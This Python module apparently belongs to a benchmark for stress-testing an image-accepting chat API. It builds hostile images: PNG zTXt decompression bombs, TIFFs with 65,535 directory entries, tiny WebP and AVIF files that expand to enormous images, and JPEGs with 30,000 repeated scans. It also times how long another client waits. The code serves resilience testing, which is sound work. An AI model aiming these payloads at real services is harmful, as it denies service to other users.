"""Attacks with image bytes: headers that are slow to parse, decompression bombs, endless decodes,
and clients that disconnect.
"""

from __future__ import annotations

import concurrent.futures
import struct
import time
import zlib

import httpx
import numpy as np
import PIL.Image

from saccade_bench.abuse import attack
from saccade_bench.image_files import image_part, save

PIL.Image.MAX_IMAGE_PIXELS = None


def ask(url: str, parts: list[dict[str, object]], seconds: float = 240) -> str:
    """Send a question. Return the status and the start of the error message."""
    body = {"model": "demo", "max_tokens": 1, "messages": [{"role": "user", "content": parts}]}
    try:
        answer = httpx.post(f"{url}/v1/chat/completions", json=body, timeout=seconds)
    except httpx.TimeoutException:
        return f"left after {seconds:g} s"
    why = "" if answer.is_success else f": {answer.json()['error']['message'][:90]}"
    return f"{answer.status_code}{why}"


def small(seed: int) -> bytes:
    return save(np.random.default_rng(seed).integers(0, 256, (64, 48, 3), dtype=np.uint8), "PNG")


def neighbour(url: str, seed: int) -> str:
    """Describe how long another client waits for an answer about a small image."""
    begun = time.monotonic()
    status = ask(url, [image_part(small(seed))])[:3]
    return f"a neighbour's image {status} after {time.monotonic() - begun:.1f} s"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def text_bombs(seed: int) -> bytes:
    """Return a small PNG with 60 text chunks that inflate to 1 MB each."""
    data = small(seed)
    bomb = chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(1 << 20), 9))
    return data[:33] + bomb * 60 + data[33:]


def many_scans(scans: int) -> bytes:
    """Return a progressive JPEG whose last scan is repeated."""
    pixels = np.random.default_rng(1).integers(0, 256, (64, 64, 3), dtype=np.uint8)
    data = save(pixels, "JPEG", progressive=True, quality=5)
    last, end = data.rindex(b"\xff\xda"), data.rindex(b"\xff\xd9")
    return data[:end] + data[last:end] * scans + data[end:]


@attack("64 PNGs of 60 zTXt bombs")
def zipped_texts(url: str) -> str:
    return ask(url, [image_part(text_bombs(seed)) for seed in range(64)])


@attack("16 TIFFs of 65,535 entries")
def tiff_entries(url: str) -> str:
    entries = struct.pack("<HHII", 256, 3, 1, 64) + struct.pack("<HHII", 257, 3, 1, 64)
    rest = struct.pack("<HHII", 65_000, 3, 1, 0) * 65_533
    data = b"II*\0\x08\0\0\0" + struct.pack("<H", 65_535) + entries + rest
    return ask(url, [image_part(data + bytes([n])) for n in range(16)])


@attack("a WebP of 13,000 x 13,000 in a few kB")
def swollen_webp(url: str) -> str:
    image = PIL.Image.new("RGB", (13_000, 13_000))
    return ask(url, [image_part(save(image, "WEBP", lossless=True, quality=0, method=0))])


@attack("an AVIF of 8,000 x 8,000 in a few kB")
def swollen_avif(url: str) -> str:
    return ask(url, [image_part(save(PIL.Image.new("RGB", (8_000, 8_000)), "AVIF", speed=10))])


@attack("one slow PNG under 40 max_pixels, and gone after 2 s", "--tune", "decode_timeout=0.5")
def zombies(url: str) -> str:
    data = save(PIL.Image.effect_noise((7_000, 7_000), 90), "PNG", compress_level=1)
    answer = httpx.post(
        f"{url}/v1/files", files={"file": ("a.png", data)}, data={"purpose": "vision"}, timeout=60
    )
    name = answer.json()["id"]
    parts: list[dict[str, object]] = [
        {"type": "image_file", "image_file": {"file_id": name, "max_pixels": 65_536 + 4096 * n}}
        for n in range(40)
    ]
    first = ask(url, parts, 2.0)
    return f"{first}; {neighbour(url, 7)}"


@attack("JPEGs of 30,000 scans")
def scans(url: str) -> str:
    data = many_scans(30_000)
    first = ask(url, [image_part(data), image_part(data, max_pixels=65_536)])
    return f"{len(data) / 1e6:.1f} MB: {first}; {neighbour(url, 8)}"


@attack("a small image beside 24 large ones of another client")
def crowd(url: str) -> str:
    large = [
        save(np.random.default_rng(n).integers(0, 256, (1500, 1500, 3), dtype=np.uint8), "PNG")
        for n in range(24)
    ]
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        first = pool.submit(ask, url, [image_part(data, max_pixels=65_536) for data in large])
        time.sleep(1.0)
        waited = neighbour(url, 9)
        return f"{first.result()[:3]}; {waited}"
